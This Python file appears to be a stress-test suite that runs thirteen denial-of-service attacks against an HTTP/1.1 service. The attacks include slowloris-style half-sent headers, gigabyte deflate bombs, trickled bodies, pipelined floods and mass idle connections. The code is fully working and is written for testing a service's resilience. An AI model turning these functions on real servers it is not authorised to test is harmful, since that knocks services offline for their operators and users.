"""Attacks by HTTP/1.1: endless and half-sent headers, trickles, bombs, floods."""

from __future__ import annotations

import contextlib
import select
import socket
import time
import zlib
from collections.abc import Callable, Iterator

from hostile_target import Target

MANY = 500


@contextlib.contextmanager
def connections(target: Target, count: int) -> Iterator[list[socket.socket]]:
    """Open `count` connections for the duration of the block."""
    with contextlib.ExitStack() as stack:
        yield [stack.enter_context(socket.create_connection(target.http, 60)) for _ in range(count)]


def head(target: Target, path: str, *lines: str) -> bytes:
    """Return the start of a POST that passes the access checks."""
    lines = (f"POST {path} HTTP/1.1", "Host: localhost", *lines)
    return "\r\n".join([*lines, f"Authorization: Bearer {target.token}", "", ""]).encode()


def send_all(connection: socket.socket, data: bytes) -> None:
    """Send while the farm reads; discard answers. Raises OSError if the farm disconnects."""
    left = memoryview(data)
    connection.setblocking(False)
    end = time.monotonic() + 5
    while left and time.monotonic() < end:
        readable, writable, _ = select.select([connection], [connection], [], 1)
        if readable and not connection.recv(1 << 20):
            return
        if writable:
            left = left[connection.send(left[: 1 << 20]) :]


def huge_headers(target: Target) -> None:
    """20 MB of headers, without a token."""
    with socket.create_connection(target.http, 60) as connection:
        send_all(
            connection,
            b"GET / HTTP/1.1\r\nHost: localhost\r\n" + (b"A: " + b"b" * 1000 + b"\r\n") * 20_000,
        )


def many_headers(target: Target) -> None:
    """Heads of 64 KiB that consist of short lines, on 50 connections."""
    data = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * 16_000 + b"\r\n"
    with connections(target, 50) as all_of_them:
        for connection in all_of_them:
            send_all(connection, data)


def half_headers(target: Target) -> None:
    """Headers that do not end, on many connections, byte by byte."""
    with connections(target, MANY) as all_of_them:
        for connection in all_of_them:
            connection.sendall(b"GET / HTTP/1.1\r\nA: ")
        end = time.monotonic() + target.seconds
        while time.monotonic() < end:
            for connection in all_of_them:
                connection.sendall(b"b")


def trickled_bodies(target: Target) -> None:
    """Bodies that announce a gigabyte and come byte by byte, on many connections."""
    start = head(target, "/Evaluate", f"Content-Length: {1 << 30}")
    with connections(target, MANY) as all_of_them:
        for connection in all_of_them:
            connection.sendall(start)
        end = time.monotonic() + target.seconds
        while time.monotonic() < end:
            for connection in all_of_them:
                connection.sendall(b"1")


def large_bodies(target: Target) -> None:
    """Bodies of 20 MB on 20 connections that all stop a byte before their end."""
    start = head(target, "/Evaluate", f"Content-Length: {20 << 20}")
    with connections(target, 20) as all_of_them:
        for connection in all_of_them:
            connection.sendall(start)
            send_all(connection, bytes((20 << 20) - 1))


def bomb(target: Target) -> None:
    """A body of 1 MB that unpacks to a gigabyte."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
    lines = (f"Content-Length: {len(body)}", "Content-Encoding: deflate")
    ask = head(target, "/Evaluate", *lines) + body
    end = time.monotonic() + target.seconds
    while time.monotonic() < end:
        with socket.create_connection(target.http, 60) as connection:
            connection.sendall(ask)
            connection.recv(1000)


def small_bombs(target: Target) -> None:
    """Bodies of 1 kB that unpack to 1 MB, on 20 connections."""
    body = zlib.compress(bytes(1 << 20), 9)
    lines = (f"Content-Length: {len(body)}", "Content-Encoding: deflate")
    ask = head(target, "/Evaluate", *lines) + body
    with connections(target, 20) as all_of_them:
        for connection in all_of_them:
            send_all(connection, ask * 200)


def tiny_chunks(target: Target) -> None:
    """Bodies in chunks of one byte, on 20 connections."""
    start = head(target, "/Evaluate", "Transfer-Encoding: chunked")
    with connections(target, 20) as all_of_them:
        for connection in all_of_them:
            connection.sendall(start)
            send_all(connection, b"1\r\n1\r\n" * 50_000)


def pipelined(target: Target) -> None:
    """20,000 pipelined requests on each of 20 connections, whose answers are not read."""
    with connections(target, 20) as all_of_them:
        end = time.monotonic() + target.seconds
        left = {
            c: memoryview(b"GET /Info HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20_000)
            for c in all_of_them
        }
        for connection in all_of_them:
            connection.setblocking(False)
        while time.monotonic() < end and left:
            for connection in select.select([], list(left), [], 0.1)[1]:
                left[connection] = left[connection][connection.send(left[connection]) :]
                if not left[connection]:
                    del left[connection]


def pipelined_and_read(target: Target) -> None:
    """The same by clients that read as fast as they can."""
    with connections(target, 20) as all_of_them:
        for connection in all_of_them:
            send_all(connection, b"GET /Info HTTP/1.1\r\nHost: localhost\r\n\r\n" * 5_000)


def connection_flood(target: Target) -> None:
    """Connections that are opened and left, 2,000 at a time."""
    with connections(target, 2_000):
        pass


def connects(target: Target) -> None:
    """Connections that are closed as soon as they are open."""
    for _ in range(2_000):
        socket.create_connection(target.http, 60).close()


def unread_answers(target: Target) -> None:
    """Long answers that are not read, on 20 connections."""
    numbers = ",".join(["0.1234567"] * 20_000)
    body = f'{{"name":"echo","input":[[{numbers}]],"config":{{}}}}'.encode()
    ask = head(target, "/Evaluate", f"Content-Length: {len(body)}") + body
    with connections(target, 20) as all_of_them:
        for connection in all_of_them:
            connection.settimeout(0.5)
            with contextlib.suppress(TimeoutError):
                connection.sendall(ask * 20)
        time.sleep(target.seconds / 2)


CASES: dict[str, Callable[[Target], None]] = {
    "20 MB of headers": huge_headers,
    "16,000 headers": many_headers,
    f"half-sent headers on {MANY} connections": half_headers,
    f"trickled bodies on {MANY} connections": trickled_bodies,
    "20 bodies of 20 MB that do not end": large_bodies,
    "1 MB that unpacks to 1 GB": bomb,
    "1 kB that unpacks to 1 MB": small_bombs,
    "chunks of one byte": tiny_chunks,
    "requests sent ahead, answers unread": pipelined,
    "requests sent ahead, answers read": pipelined_and_read,
    "2,000 idle connections": connection_flood,
    "connections opened and closed": connects,
    "long answers unread": unread_answers,
}
